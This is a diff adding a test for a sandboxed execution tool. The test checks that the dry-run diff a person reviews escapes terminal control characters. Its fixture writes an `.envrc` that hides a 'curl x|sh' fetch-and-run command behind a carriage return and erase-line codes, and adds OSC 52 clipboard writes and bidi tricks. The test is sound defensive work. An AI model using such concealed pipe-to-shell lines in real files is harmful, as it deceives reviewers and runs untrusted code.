@@ -232,3 +232,28 @@ def test_a_home_directory_trees_xdg_git_config_is_held(
     home = {**GIT_ENV, "HOME": str(repo)}
     subprocess.run(["git", "status"], cwd=repo, env=home, capture_output=True, check=False)
     assert not mark.exists()
+
+
+def test_the_dry_run_a_person_reviews_carries_no_control_sequence(
+    tmp_path: Path, repo: Path, offerings: Offerings
+) -> None:
+    """A person reads the dry run before naming a protected path: content that erases lines
+    (CR, CSI 2K, backspace), writes the clipboard (OSC 52) or reorders text (bidi, C1 CSI
+    U+009B) would hide what `.envrc` really runs. Names, link targets and content: escaped."""
+    line = (
+        "printf 'echo safe\\r\\033[2Kcurl x|sh\\n\\033]52;c;aGk=\\007\\302\\233\\342\\200\\256"
+        "\\010\\n' > .envrc && mkdir -p \"$(printf 'd\\033[31m')\" && "
+        "printf 'x\\033]52;c;aGk=\\007' > \"$(printf 'd\\033[31m')/.envrc\""
+        " && ln -s \"$(printf 'a\\033]0;t\\007')\" link"
+    )
+    tool = ExecTool(make_config(tmp_path, arm="copied_tree"), repo, offerings=offerings)
+    with tool:
+        result = tool.exec(line, shell=True)
+        assert result.exit_code == 0, result.stderr
+        assert result.changes is not None and result.changes.handle is not None
+        dry = tool.apply(result.changes.handle, dry_run=True)
+    assert dry.diff is not None and "curl x|sh" in dry.diff
+    bad = [c for c in dry.diff if (ord(c) < 0x20 and c not in "\n\t") or 0x7F <= ord(c) <= 0x9F]
+    assert not bad, [hex(ord(c)) for c in bad]
+    assert "\u202e" not in dry.diff
+    assert dry.command is not None and "\x1b" not in dry.command
